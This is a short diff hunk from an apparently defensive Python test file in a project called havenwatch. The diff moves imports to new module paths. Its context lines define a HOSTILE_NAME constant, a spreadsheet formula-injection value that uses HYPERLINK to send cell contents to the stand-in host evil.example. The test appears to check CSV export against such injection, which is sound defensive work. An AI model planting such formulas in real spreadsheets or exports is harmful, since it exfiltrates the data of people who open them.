@@ -14,12 +14,12 @@ from havenwatch.cases.csv_export import events_csv
 from havenwatch.cases.csv_import import import_csv_rows, parse_csv
 from havenwatch.cases.events import add_event, add_event_source
 from havenwatch.cases.interchange import export_document
-from havenwatch.cases.model import Case, Event, Identity, Person, Source
 from havenwatch.cases.people import add_person
 from havenwatch.cli import cli
-from havenwatch.settings import Settings, resolve_settings
+from havenwatch.core.model import Case, Event, Identity, Person, Source
+from havenwatch.core.settings import Settings, resolve_settings
+from havenwatch.operations.instance import initialise
 from havenwatch.store.database import Database
-from havenwatch.store.instance import initialise
 
 HOSTILE_NAME = '=HYPERLINK("https://evil.example/?q="&A1,"Ann ""Nick"" Smith")'
 HOSTILE_NOTES = (
